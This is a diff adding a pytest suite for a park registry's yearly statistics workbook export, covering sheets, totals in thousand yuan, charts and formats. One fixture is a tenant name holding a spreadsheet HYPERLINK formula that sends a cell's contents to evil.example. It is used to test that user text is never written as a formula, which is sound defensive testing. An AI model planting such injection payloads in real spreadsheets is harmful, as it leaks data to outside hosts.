@@ -1,0 +1,273 @@
+"""The yearly workbook, read back as the statistics office would check it."""
+
+from decimal import Decimal
+
+import pytest
+
+from exports.statistics import statistics_workbook
+from registry.money import in_unit
+from registry.periods import Period
+from registry.stats import park_stats
+from registry.vocabulary import COUNT_KEYS, INDUSTRY, IP_KIND, MONEY_KEYS
+from tests.conftest import make_tenant
+from tests.exports.conftest import formulas, make_ip, make_report, open_workbook, sheet_xml
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&B5,"详情")'
+SHEETS_ZH = ["概览", "按产业", "知识产权", "企业明细", "目标监测", "说明"]
+SHEETS_EN = ["Summary", "By industry", "IP", "Tenants", "Targets", "Notes"]
+
+
+@pytest.fixture
+async def park(empty_registry):
+    """Three tenants on record at the end of 2016, one that left during it, one that came later."""
+    annual = await make_tenant(
+        industry="electronic_info", moved_in_on="2015-11-01", platform_level="national",
+        hte_certificate_no="GR201643000001", hte_certified_on="2016-10-01",
+    )  # fmt: skip
+    halves = await make_tenant(industry="new_energy", moved_in_on="2016-05-01", platform_level="municipal")
+    silent = await make_tenant(name=HOSTILE_NAME, industry="new_energy", moved_in_on="2016-02-01")
+    gone = await make_tenant(moved_in_on="2015-12-01", moved_out_on="2016-06-30", status="left")
+    later = await make_tenant(moved_in_on="2017-01-10")
+
+    await make_report(annual["uscc"], "2015", revenue="800000.00", employees="40")
+    await make_report(annual["uscc"], "2016", revenue="1000000.01", net_profit="-12345.67", employees="50",
+                      rd_staff="12", new_graduates="3", tax_paid="80000.00", rd_expense="150000.00", exports="0")  # fmt: skip
+    await make_report(halves["uscc"], "2016H1", revenue="300000.00", employees="10")
+    await make_report(halves["uscc"], "2016Q3", revenue="100000.00", employees="11")
+    await make_report(halves["uscc"], "2016Q4", revenue="150000.50", employees="12")
+    await make_report(gone["uscc"], "2016", revenue="999.00")
+    await make_report(later["uscc"], "2016", revenue="5.00")
+
+    await make_ip(annual["uscc"], filed_on="2015-03-01", granted_on="2016-06-01")
+    await make_ip(annual["uscc"], kind="software_copyright", number="2016SR000001", filed_on="2016-01-05",
+                  granted_on="2016-02-01")  # fmt: skip
+    await make_ip(halves["uscc"], kind="utility_model", filed_on="2016-07-01", granted_on=None,
+                  status="pending")  # fmt: skip
+    await make_ip(gone["uscc"])
+    return {"annual": annual, "halves": halves, "silent": silent, "gone": gone, "later": later}
+
+
+@pytest.fixture
+async def workbook(park):
+    content = await statistics_workbook(2016)
+    stats = await park_stats(Period(2016))
+    return open_workbook(content), stats, content
+
+
+def _table(sheet, header_row=4):
+    rows = list(sheet.iter_rows(min_row=header_row, values_only=True))
+    return list(rows[0]), [list(r) for r in rows[1:]]
+
+
+def _k(json_yuan: str | None) -> Decimal | None:
+    """The API's yuan string in 千元."""
+    return None if json_yuan is None else Decimal(json_yuan) / 1000
+
+
+def _num(value) -> Decimal | None:
+    return None if value is None else Decimal(str(value))
+
+
+async def test_sheets_are_named_in_chinese_by_default_and_in_english_on_request(park):
+    assert open_workbook(await statistics_workbook(2016)).sheetnames == SHEETS_ZH
+    assert open_workbook(await statistics_workbook(2016, "en")).sheetnames == SHEETS_EN
+
+
+async def test_tenant_rows_are_exactly_the_tenants_on_record_at_year_end(workbook, park):
+    book, _, _ = workbook
+    header, rows = _table(book["企业明细"])
+    tenant_rows, total = rows[:-1], rows[-1]
+    on_record = {park[k]["uscc"] for k in ("annual", "halves", "silent")}
+    assert {row[1] for row in tenant_rows} == on_record
+    assert len(tenant_rows) == 3
+    assert total[2] == "合计"
+    assert [row[0] for row in tenant_rows] == [1, 2, 3]
+
+
+async def test_torch_columns_hold_each_tenants_figures_in_thousand_yuan(workbook, park):
+    book, stats, _ = workbook
+    header, rows = _table(book["企业明细"])
+    column = {label: index for index, label in enumerate(header)}
+    by_uscc = {row[1]: row for row in rows[:-1]}
+    annual = by_uscc[park["annual"]["uscc"]]
+    assert _num(annual[column["营业收入(千元)"]]) == Decimal("1000.00001")
+    assert _num(annual[column["净利润(千元)"]]) == Decimal("-12.34567")
+    assert annual[column["从业人员(人)"]] == 50
+    assert annual[column["是否高新技术企业"]] == "是" and annual[column["研发平台级别"]] == "国家级"
+    assert annual[column["本年知识产权授权数(件)"]] == 2
+    assert annual[column["其中：发明专利授权(件)"]] == 1
+    assert annual[column["拥有有效知识产权数(件)"]] == 2
+    assert annual[column["软件著作权(件)"]] == 1
+    halves = by_uscc[park["halves"]["uscc"]]
+    assert _num(halves[column["营业收入(千元)"]]) == Decimal("550.0005")
+    assert halves[column["从业人员(人)"]] == 12
+    assert halves[column["本年知识产权申请数(件)"]] == 1
+    silent = by_uscc[park["silent"]["uscc"]]
+    assert silent[column["是否报送"]] == "否" and silent[column["营业收入(千元)"]] is None
+
+
+async def test_torch_total_equals_the_api_figures(workbook):
+    book, stats, _ = workbook
+    api = stats.to_json()
+    header, rows = _table(book["企业明细"])
+    total = dict(zip(header, rows[-1], strict=True))
+    for key, label in (("revenue", "营业收入"), ("net_profit", "净利润"), ("tax_paid", "实际上缴税费")):
+        assert _num(total[f"{label}(千元)"]) == _k(api["figures"][key]["value"])
+    assert total["从业人员(人)"] == api["figures"]["employees"]["value"] == 62
+    assert total["拥有有效知识产权数(件)"] == api["ip"]["valid_at_end"] == 2
+    assert total["本年知识产权申请数(件)"] == api["ip"]["filed"]
+
+
+async def test_summary_figures_equal_the_api(workbook):
+    book, stats, _ = workbook
+    api = stats.to_json()
+    rows = {r[0]: r for r in book["概览"].iter_rows(values_only=True) if r[0]}
+    assert rows["年末在册企业"][2] == api["tenants"]["at_end"] == 3
+    assert rows["本期入驻"][2] == api["tenants"]["moved_in"]
+    assert rows["本期迁出（未毕业）"][2] == api["tenants"]["left"] == 1
+    revenue = rows["营业收入"]
+    assert _num(revenue[1]) == _k(api["figures"]["revenue"]["value"]) == Decimal("1550.00051")
+    assert _num(revenue[2]) == _k(api["figures"]["revenue"]["previous"]) == Decimal("800")
+    assert _num(revenue[3]) == Decimal(api["figures"]["revenue"]["growth"])
+    assert rows["已报送企业"][2] == api["reported"] == 2
+    assert rows["年末有效知识产权"][2] == api["ip"]["valid_at_end"]
+
+
+async def test_half_year_and_quarter_figures_stand_beside_the_annual_ones(workbook):
+    book, stats, _ = workbook
+    rows = list(book["概览"].iter_rows(values_only=True))
+    header = next(r for r in rows if r[1] == "2016年(千元)")
+    revenue = next(r for r in rows if r[0] == "营业收入")
+    columns = dict(zip(header, revenue, strict=True))
+    assert _num(columns["2016H1(千元)"]) == in_unit(stats.sub_periods["2016H1"]["revenue"], "千元") == Decimal(300)
+    assert _num(columns["2016Q4(千元)"]) == Decimal("150.0005")
+    assert columns["2016Q1(千元)"] is None
+
+
+async def test_who_has_not_reported_is_listed(workbook, park):
+    book, _, _ = workbook
+    rows = list(book["概览"].iter_rows(values_only=True))
+    start = next(i for i, r in enumerate(rows) if r[0] == "六、未报送企业名单")
+    assert rows[start + 2][:2] == (park["silent"]["uscc"], HOSTILE_NAME)
+
+
+async def test_industry_and_ip_sheets_equal_the_stats(workbook):
+    book, stats, _ = workbook
+    header, rows = _table(book["按产业"])
+    assert [r[0] for r in rows] == [c.zh for c in INDUSTRY.choices] + ["合计"]
+    for row, line in zip(rows, stats.by_industry, strict=False):
+        assert row[1] == line.tenants_at_end
+        assert _num(row[3]) == (None if line.figures["revenue"] is None else in_unit(line.figures["revenue"], "千元"))
+        assert row[-1] == line.ip_valid
+    assert rows[-1][1] == stats.tenants.at_end
+    header, rows = _table(book["知识产权"])
+    assert [r[0] for r in rows] == [c.zh for c in IP_KIND.choices] + ["合计"]
+    for row, kind in zip(rows, IP_KIND.codes, strict=False):
+        counts = stats.ip_by_kind[kind]
+        assert row[1:] == [counts.valid_at_end, counts.filed, counts.granted]
+    assert rows[-1][1:] == [stats.ip.valid_at_end, stats.ip.filed, stats.ip.granted]
+
+
+async def test_targets_show_the_measurable_2020_targets(workbook):
+    book, stats, _ = workbook
+    header, rows = _table(book["目标监测"])
+    national, share = rows[0], rows[1]
+    assert national[2] == 40 and national[3] == stats.targets.national_platforms == 1 and national[4] == "否"
+    assert _num(share[2]) == Decimal("0.6")
+    assert _num(share[3]) == stats.targets.certified_platform_share == Decimal(1)
+    assert share[4] == "是"
+
+
+async def test_every_numeric_header_states_its_unit(workbook):
+    book, _, _ = workbook
+    units = ("(千元)", "(人)", "(件)", "(家)", "(%)", "单位")
+    for title, text_columns in (("按产业", 1), ("知识产权", 1), ("企业明细", 10)):
+        header, _ = _table(book[title])
+        for label in header[text_columns:]:
+            assert label.endswith(units), f"{title}: {label}"
+
+
+async def test_number_formats_frozen_headers_filters_and_widths(workbook):
+    book, _, _ = workbook
+    tenants = book["企业明细"]
+    header, rows = _table(tenants)
+    revenue_column = header.index("营业收入(千元)") + 1
+    assert tenants.cell(5, revenue_column).number_format == "#,##0.00"
+    assert tenants.cell(5, header.index("从业人员(人)") + 1).number_format == "#,##0"
+    assert tenants.cell(5, 4).is_date
+    assert tenants.freeze_panes == "D5"
+    assert tenants.auto_filter.ref == "A4:AA7"
+    assert tenants.column_dimensions["C"].width >= 14
+    for title in ("按产业", "知识产权", "目标监测"):
+        assert book[title].freeze_panes == "B5" and book[title].auto_filter.ref.startswith("A4:")
+    summary = book["概览"]
+    growth = next(row for row in summary.iter_rows() if row[0].value == "营业收入")[3]
+    assert growth.number_format == "0.0%"
+
+
+async def test_title_block_names_park_year_time_and_source(workbook):
+    book, _, _ = workbook
+    for sheet in book.worksheets:
+        assert sheet["A1"].value == "动力谷自主创新园 2016年度统计"
+    lines = [book["概览"][f"A{r}"].value for r in (2, 3, 4)]
+    assert lines[0].startswith("统计期间：2016-01-01 至 2016-12-31")
+    assert lines[1].startswith("生成时间：")
+    assert "数据来源：园区登记系统" in lines[2] and ("SQLite" in lines[2] or "PostgreSQL" in lines[2])
+
+
+async def test_summary_has_three_native_charts(workbook):
+    book, _, content = workbook
+    charts = book["概览"]._charts
+    assert len(charts) >= 3
+    titles = [c.title.tx.rich.p[0].r[0].t for c in charts]
+    assert titles == ["营业收入按产业（千元）", "年末有效知识产权按类型（件）", "营业收入按期间（千元）"]
+    refs = [c.series[0].val.numRef.f for c in charts]
+    assert refs[0].startswith("'按产业'!$D$5") and refs[1].startswith("'知识产权'!$B$5")
+
+
+async def test_user_text_is_never_a_formula(workbook):
+    book, _, content = workbook
+    assert formulas(book) == []
+    names = [c for row in book["企业明细"].iter_rows(min_row=5) for c in row if c.value == HOSTILE_NAME]
+    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
+    assert "<f>" not in sheet_xml(content, "企业明细")
+
+
+async def test_money_is_written_with_exact_digits(workbook):
+    _, _, content = workbook
+    xml = sheet_xml(content, "企业明细")
+    assert "<v>1000.00001</v>" in xml and "<v>-12.34567</v>" in xml and "<v>1550.00051</v>" in xml
+
+
+async def test_english_workbook_has_english_headers_and_units(park):
+    book = open_workbook(await statistics_workbook(2016, "en"))
+    header, _ = _table(book["Tenants"])
+    assert "Revenue (k yuan)" in header or "Revenue(k yuan)" in header
+    assert book["Summary"]["A1"].value.startswith("Power Valley Independent Innovation Park")
+    assert [r[0] for r in _table(book["By industry"])[1]][:1] == [INDUSTRY.choices[0].en]
+
+
+async def test_an_empty_year_still_renders(empty_registry):
+    book = open_workbook(await statistics_workbook(1999))
+    header, rows = _table(book["企业明细"])
+    assert [r[2] for r in rows] == ["合计"]
+    assert book.sheetnames == SHEETS_ZH
+
+
+def test_money_and_count_keys_are_all_shown():
+    assert len(MONEY_KEYS) == 5 and len(COUNT_KEYS) == 3
+
+
+async def test_demo_park_2016_shows_36_yi_yuan_as_3600000_thousand_in_the_torch_total(empty_registry):
+    from registry.demo import load_demo
+
+    await load_demo()
+    book = open_workbook(await statistics_workbook(2016))
+    header, rows = _table(book["企业明细"])
+    total = dict(zip(header, rows[-1], strict=True))
+    assert total["企业名称"] == "合计"
+    assert _num(total["营业收入(千元)"]) == Decimal(3_600_000)
+    assert book["企业明细"].cell(len(rows) + 4, header.index("营业收入(千元)") + 1).number_format == "#,##0.00"
+    summary = {r[0]: r for r in book["概览"].iter_rows(values_only=True) if r[0]}
+    assert _num(summary["营业收入"][1]) == Decimal(3_600_000)
+    assert book["概览"]["A1"].value.startswith("动力谷自主创新园")
